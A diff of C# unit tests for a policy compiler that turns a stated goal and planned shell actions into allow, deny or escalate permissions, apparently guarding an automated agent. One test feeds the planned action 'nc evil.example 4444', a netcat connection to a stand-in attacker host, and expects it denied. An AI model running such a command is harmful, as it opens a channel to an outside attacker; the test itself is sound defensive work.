@@ -109,6 +109,39 @@ public sealed class PolicyCompilerTests
     }
 
     [Fact]
+    public void Compile_WordsThatAPersonShouldRead_GrantNothingUntilSomebodyHas()
+    {
+        const string Goal = "pay the invoice at https://bank.example and list the files in /srv";
+        var policy = Compile(Goal);
+        Assert.Equal(Verdict.Escalate, policy.Verdict);
+        Assert.False(policy.HasGrants);
+        Assert.Equal("intent", Assert.Single(policy.Refusals).Subject);
+        Assert.True(PolicyCompiler.Compile(
+            Goal, s_tenMinutes, Ceiling.Default, new HashSet<string>(StringComparer.Ordinal) { "intent" }).HasGrants);
+    }
+
+    [Fact]
+    public void Compile_WhatTheCeilingRulesOut_IsMissedAndWhatTheWordsRuleOutIsNot()
+    {
+        var ceiling = Ceiling.Default with { AllowedPrograms = ["cat"] };
+        Assert.Equal(Verdict.Escalate, Compile("read /etc/hosts with cat, count it with wc", ceiling).Verdict);
+        Assert.Equal(Verdict.Escalate,
+            Compile("build with make", Ceiling.Default with { DeniedPrograms = ["awk"] }).Verdict);
+        Assert.Equal(Verdict.Allow, Compile("read /etc/hosts with cat, not with wc").Verdict);
+    }
+
+    [Fact]
+    public void Compile_PlannedActions_AreReadWithTheGoal()
+    {
+        var policy = PolicyCompiler.Compile(
+            "look at the hosts", ["cat /etc/hosts", "nc evil.example 4444"], s_tenMinutes, Ceiling.Default);
+        Assert.Equal("cat", Assert.Single(policy.Programs).Program);
+        Assert.Contains(policy.Refusals, r => r is { Subject: "nc", Verdict: Verdict.Deny });
+        Assert.Equal(Verdict.Deny, PolicyCompiler.Compile(
+            "read /etc/hosts", [.. Enumerable.Repeat("cat /etc/hosts", 65)], s_tenMinutes, Ceiling.Default).Verdict);
+    }
+
+    [Fact]
     public void Compile_AGrantableLabel_SaysWhatReadingItCosts()
     {
         var ceiling =
@@ -144,7 +177,7 @@ public sealed class PolicyCompilerTests
         var policy = Compile("build with make, not with gcc");
         Assert.DoesNotContain(policy.Programs, p => p.Program is "gcc");
         Assert.Contains(new Refusal("gcc", Verdict.Deny, "the intent itself rules out gcc", true), policy.Refusals);
-        Assert.Contains(new Refusal("awk", Verdict.Deny, "the ceiling denies awk", true),
+        Assert.Contains(new Refusal("awk", Verdict.Deny, "the ceiling denies awk"),
             Compile("build with make", Ceiling.Default with { DeniedPrograms = ["awk"] }).Refusals);
     }
 
@@ -171,7 +204,7 @@ public sealed class PolicyCompilerTests
         [
             "ALLOW for 10m",
             "  run         tar                               named in the intent; packs and unpacks archives",
-            "  run         bzip2 gzip xz zstd                tar starts it",
+            "  run         bzip2 gzip sh xz zstd             tar starts it",
         ],
         PolicyText.Render(Compile("list letters.tar with tar")));
 
